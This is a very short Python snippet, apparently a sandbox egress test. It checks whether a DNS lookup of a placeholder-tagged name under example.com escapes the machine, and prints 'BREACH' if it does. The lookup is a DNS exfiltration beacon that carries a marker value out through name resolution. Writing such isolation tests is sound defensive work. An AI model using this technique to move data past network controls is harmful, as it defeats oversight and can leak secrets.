# success: a name leaves the machine
import socket
print("BREACH", socket.getaddrinfo("@TAG@.example.com", 80))
